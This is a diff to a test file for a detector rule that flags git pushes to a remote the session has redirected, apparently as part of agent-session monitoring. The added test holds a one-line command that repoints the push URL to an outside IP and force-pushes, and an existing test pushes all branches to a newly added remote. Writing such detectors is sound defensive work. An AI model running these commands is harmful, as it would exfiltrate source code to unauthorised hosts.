@@ -13,6 +13,12 @@ describe('push to a remote the session pointed elsewhere', () => {
     expect(f!.reason).toContain('code-mirror.example.net');
   });
 
+  it('repointed and pushed in one command line', () => {
+    at(0);
+    const e = bash('git remote set-url --push origin https://203.0.113.77/r.git; git push -f');
+    expect(lastOf([e]).find((f) => f.rule === 'push-to-redirected-remote')?.evidence).toEqual([e.id]);
+  });
+
   it('a remote added under a new name and pushed with --all', () => {
     at(0);
     expect(rules(lastOf([bash('git remote add bk git@198.51.100.30:bk/app.git'), bash('git push --all bk')]))).toContain('push-to-redirected-remote');
